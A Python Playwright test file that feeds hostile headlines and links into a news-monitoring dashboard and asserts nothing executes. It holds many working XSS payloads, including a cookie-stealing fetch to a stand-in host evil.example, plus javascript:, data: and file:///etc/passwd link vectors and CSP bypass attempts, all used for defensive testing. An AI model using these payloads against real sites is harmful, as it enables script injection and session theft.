"""What feeds may hold does nothing on the page: no script runs, nothing is asked of anybody else, no text hides."""

from __future__ import annotations

from dataclasses import replace

from playwright.async_api import Browser

from monitor.reading import KeyLevel, SourceLevel
from monitor.types import Evidence, Key, Language, SourceId, StoryId
from tests.api.conftest import ALL, LIVE, NOON, hex_id
from tests.core.strings import naughty
from tests.page.browser import visiting
from tests.page.conftest import Served

__all__ = ["naughty"]  # a fixture

# Each would set `window.robbed`, open a dialog or call elsewhere, if anything here were taken for more than text.
ROB = "window.robbed=1;alert(1);fetch('https://evil.example/'+document.cookie)"
TEXTS = [
    f"<script>{ROB}</script>",
    f"</script><script>{ROB}</script>",
    f'<img src=x onerror="{ROB}">',
    '<img src="https://evil.example/pixel.gif">',
    f'"><svg onload="{ROB}">',
    f"<svg><script>{ROB}</script></svg>",
    f'<details open ontoggle="{ROB}">',
    f'<iframe srcdoc="<script>{ROB}</script>"></iframe>',
    '<link rel=stylesheet href=https://evil.example/x.css><style>@import "https://evil.example/y.css"</style>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/"><form action="https://evil.example/"><input name=token>',
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={ROB}>",
    f"' onmouseover='{ROB}' x='",
    f"{{{{constructor.constructor('{ROB}')()}}}} ${{{ROB}}} #{{{ROB}}} <%= {ROB} %>",
    "{name} {n} {window} {constructor} {__proto__}",
    "__proto__",
    "constructor",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;",
    "profit \u202eelihw llaf serahs\u202c up \u2066\u2067\u200f",
    "zero\u200bwidth\u00ad\ufeffjoin\u200d er",
    "null\u0000byte \u0001\u0007\u001b[31mred\u001b[0m\u009b",
    "lone \ufffd and noncharacter \uffff \U0010ffff",
    "Z̸̢̛a̶l̷g̵o̶" * 40,
    "شركة أكمي تنخفض 艾克米 акме אקמי",
    "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇨🇳" * 30,
    "x" * 20_000,
    "a " * 10_000,
    "line\nbreak\r\nand\ttab\u2028and\u2029more",
]
LINKS = [
    f"javascript:{ROB}",
    f"JaVaScRiPt:{ROB}",
    f" javascript:{ROB}",
    f"java\nscript:{ROB}",
    f"\u0001javascript:{ROB}",
    f"data:text/html,<script>{ROB}</script>",
    f"vbscript:{ROB}",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "ftp://evil.example/",
    "//evil.example/",
    "/api/v1/articles",
    "https://user:password@bank.example/",
    "https://",
    "http://[::1",
    f'https://fine.example/" onclick="{ROB}',
    "https://fine.example/" + "x" * 5000,
]
# What must not be found in the document, whatever the feeds say.
STRANGERS = "main :is(script, img, svg, iframe, object, embed, style, link, base, meta, form[action])"
HANDLERS = """() => [...document.querySelectorAll("*")].flatMap((each) => each.getAttributeNames())
    .filter((name) => /^on/i.test(name))"""
ADDRESSES = """() => [...document.querySelectorAll("[style]")].map((each) => each.style.cssText)
    .filter((text) => /url|import/i.test(text))"""
LINKED = "links => links.map((link) => [link.protocol, link.username, link.rel, link.target])"
MISTAKES = {
    "markup": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.robbed=1\">')",
    "script": "document.body.append(Object.assign(document.createElement('script'), { text: 'window.robbed=1' }))",
    "policy": "trustedTypes.createPolicy('mine', { createHTML: (text) => text })",
    "text": "setTimeout('window.robbed=1')",
}


def evidence(number: int, text: str, link: str | None) -> Evidence:
    return Evidence(
        story=StoryId(hex_id(number)),
        title=text,
        link=link,
        publisher=text[:100],
        language=Language("en"),
        published=NOON,
        negative=0.9,
        copies=3,
        publishers=2,
    )


async def flood(desk: Served, texts: list[str]) -> None:
    """Put the texts wherever the page shows what came from outside, and what an operator wrote down carelessly."""
    given = [(text, LINKS[number % len(LINKS)]) for number, text in enumerate(texts)]
    for number in range(0, len(given), 10):
        pieces = tuple(evidence(place, *each) for place, each in enumerate(given[number : number + 10], number))
        await desk.commit_incident(number + 1, evidence=pieces)
    for number, (text, link) in enumerate(given):
        await desk.archive.article(number, title=text.replace("\x00", ""), link=link, publisher=text[:100])
        await desk.archive.judgement(number)
    calm = KeyLevel(key=ALL, surging=False, blind=False, learning_since=None, windows=())
    desk.live = replace(
        LIVE,
        keys=(*LIVE.keys, *(replace(calm, key=Key(f"topic:{text[:200]}")) for text in texts)),
        sources=tuple(
            SourceLevel(id=SourceId(f"{number} {text[:60]}"), kind=text[:20], last_success=None, error=text[:2000])
            for number, text in enumerate(texts)
        ),
    )


async def look_around(desk: Served, browser: Browser, texts: list[str]) -> None:
    """Look at every part of the page, and press what can be pressed."""
    async with desk.serving(), visiting(browser, desk.url) as visit:
        await visit.settle()
        await flood(desk, texts)
        page = visit.page
        await visit.until("document.querySelectorAll('.incident').length >= 1")
        await page.reload()
        await visit.settle()
        await visit.until(f"document.querySelectorAll('.incident').length >= {(len(texts) + 9) // 10}")
        await visit.until("document.querySelectorAll('#keys-list .row').length >= 30")
        for place in range(await page.locator(".incident .more").count()):
            await page.locator(".incident .more").nth(place).click()
        await page.hover("#chart .u-over")
        await page.locator("#keys-list .row").last.click()
        await page.click("#language")
        await page.click("[data-key='entity:acme']")
        await visit.until("document.querySelectorAll('#headlines li bdi').length >= 8")

        assert await page.evaluate("window.robbed") is None
        assert await page.locator(STRANGERS).count() == 0
        assert await page.evaluate(HANDLERS) == []
        assert await page.evaluate(ADDRESSES) == []
        links = await page.eval_on_selector_all("main a", LINKED)
        assert links
        for protocol, user, rel, target in links:
            assert (protocol, user, target) == ("https:", "", "_blank")
            assert {"noopener", "noreferrer", "nofollow"} <= set(rel.split())
        shown = await visit.text("main")
        assert not any(hidden in shown for hidden in "\x00\x01\x1b\u202e\u2066\u200b\ufeff")
        assert page.url == f"{desk.url}/"


async def test_hostile_headlines_do_nothing(desk: Served, browser: Browser) -> None:
    await look_around(desk, browser, TEXTS)


async def test_naughty_strings_do_nothing(desk: Served, browser: Browser, naughty: list[str]) -> None:
    texts = [text for text in naughty if text.strip()]
    await look_around(desk, browser, texts)


async def test_a_good_link_leads_where_it_says_and_tells_nobody_whence(desk: Served, browser: Browser) -> None:
    await desk.archive.incident(1, evidence=(evidence(1, "Acme fined", "https://news.example/a?b=1#c"),))
    async with desk.serving(), visiting(browser, desk.url) as visit:
        await visit.settle()
        link = visit.page.locator(".incident a")
        assert await link.get_attribute("href") == "https://news.example/a?b=1#c"
        assert await link.inner_text() == "Acme fined"


async def test_even_our_own_mistake_would_run_nothing(desk: Served, browser: Browser) -> None:
    async with desk.serving(), visiting(browser, desk.url) as visit:
        await visit.settle()
        for name, mistake in MISTAKES.items():
            attempt = f"() => {{ try {{ {mistake}; return 'done'; }} catch {{ return 'refused'; }} }}"
            assert await visit.page.evaluate(attempt) == "refused", name
        handler = "document.body.setAttribute('onclick', 'window.robbed=1'); document.body.click()"
        await visit.page.evaluate(f"() => {{ try {{ {handler} }} catch {{ }} }}")
        elsewhere = "fetch('https://evil.example/').then(() => 'sent', () => 'refused')"
        assert await visit.page.evaluate(elsewhere) == "refused"
        assert await visit.page.evaluate("window.robbed") is None
        assert await visit.page.evaluate("window.violations.length") >= 4
        await visit.page.evaluate("window.violations = []")
        visit.wrong.clear()  # this once, it was ourselves
